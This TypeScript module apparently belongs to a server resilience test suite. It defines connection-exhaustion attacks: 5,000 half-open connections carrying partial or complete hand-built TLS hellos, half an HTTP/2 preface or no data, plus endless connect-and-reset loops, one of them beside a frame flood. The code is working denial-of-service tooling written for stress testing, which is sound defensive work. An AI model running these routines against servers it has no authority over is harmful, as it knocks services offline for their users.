import { type Attack, type Attacker, atOnce, pause } from './attacker.ts';
import { opening, repeated, settingsFrame, uint32 } from './frames.ts';
import { flood } from './keep-connected.ts';
import { openSocket, write } from './wire.ts';

const halfOpenCount = 5_000;
/**
 * How many connect at a time: a burst larger than the kernel's backlog would wait for its timers.
 */
const connectingAtOnce = 100;

/** Keeps `count` connections open that have sent `bytes` and nothing else. */
async function keepHalfOpen(attacker: Attacker, bytes: Buffer, count: number): Promise<void> {
  let open = 0;
  await atOnce(connectingAtOnce, async () => {
    while (!attacker.signal.aborted) {
      if (open >= count) {
        await pause(attacker, 10);
        continue;
      }
      open += 1;
      const socket = await openSocket(attacker);
      if (socket === undefined) {
        open -= 1;
        await pause(attacker, 20);
        continue;
      }
      socket.resume();
      socket.once('close', () => {
        open -= 1;
      });
      if (bytes.length > 0) await write(attacker, socket, bytes);
    }
  });
}

/** Connects, sends and closes the connection, without end. */
async function comeAndGo(attacker: Attacker, bytes: Buffer): Promise<void> {
  await atOnce(20, async () => {
    while (!attacker.signal.aborted) {
      const socket = await openSocket(attacker);
      if (socket === undefined) {
        await pause(attacker, 20);
        continue;
      }
      await write(attacker, socket, bytes);
      socket.resetAndDestroy();
    }
  });
}

/** The first 40 bytes of a handshake that announces 512. */
const clientHelloBegun = Buffer.concat([Buffer.of(0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3), Buffer.alloc(29)]);

/**
 * A whole hello that offers TLS 1.2 and one cipher suite: the server answers with its certificate
 * and waits.
 */
const clientHello = (() => {
  const supportedGroups = Buffer.of(0, 10, 0, 4, 0, 2, 0, 23);
  const pointFormats = Buffer.of(0, 11, 0, 2, 1, 0);
  const signatures = Buffer.of(0, 13, 0, 4, 0, 2, 4, 3);
  const extensions = Buffer.concat([supportedGroups, pointFormats, signatures]);
  const body = Buffer.concat([
    Buffer.of(3, 3),
    Buffer.alloc(32, 7),
    Buffer.of(0, 0, 2, 0xc0, 0x2b, 1, 0, 0, extensions.length),
    extensions,
  ]);
  const handshake = Buffer.concat([Buffer.of(1), uint32(body.length).subarray(1), body]);
  return Buffer.concat([Buffer.of(0x16, 3, 1, 0, handshake.length), handshake]);
})();

const handshakeBounds = { newConnectionP99MsMax: 200 };

export const connectionAttacks: readonly Attack[] = [
  {
    name: 'half-open TLS, hello begun',
    does: 'holds open 5,000 connections with an incomplete TLS hello',
    needs: 'tls',
    bounds: handshakeBounds,
    run: (attacker) => keepHalfOpen(attacker, clientHelloBegun, halfOpenCount),
  },
  {
    name: 'half-open TLS, hello whole',
    does: 'holds open 5,000 connections after the TLS hello',
    needs: 'tls',
    bounds: handshakeBounds,
    run: (attacker) => keepHalfOpen(attacker, clientHello, halfOpenCount),
  },
  {
    name: 'half-open TLS, silent',
    does: 'holds open 5,000 silent connections to a server with TLS',
    needs: 'tls',
    bounds: handshakeBounds,
    run: (attacker) => keepHalfOpen(attacker, Buffer.alloc(0), halfOpenCount),
  },
  {
    name: 'half-open TCP',
    does: 'holds open 5,000 silent connections',
    run: (attacker) => keepHalfOpen(attacker, Buffer.alloc(0), halfOpenCount),
  },
  {
    name: 'half a preface',
    does: 'holds open 5,000 connections with half an HTTP/2 preface',
    run: (attacker) => keepHalfOpen(attacker, opening().subarray(0, 10), halfOpenCount),
  },
  {
    name: 'idle HTTP/2',
    does: 'holds open 5,000 HTTP/2 connections without requests',
    run: (attacker) => keepHalfOpen(attacker, opening(), halfOpenCount),
  },
  {
    name: 'connections that come and go',
    does: 'opens connections and resets them, without end',
    run: (attacker) => comeAndGo(attacker, opening()),
  },
  {
    name: 'connections that come and go beside a flood',
    does: 'opens connections and resets them while it keeps the server busy',
    run: async (attacker) => {
      // Node accepts one connection in a turn of its event loop. Longer turns mean fewer accepted
      // connections.
      await Promise.all([comeAndGo(attacker, opening()), flood(attacker, repeated(settingsFrame([]), 4_000))]);
    },
  },
  {
    name: 'handshakes that come and go',
    does: 'begins TLS handshakes and resets the connections, without end',
    needs: 'tls',
    run: (attacker) => comeAndGo(attacker, clientHello),
  },
];
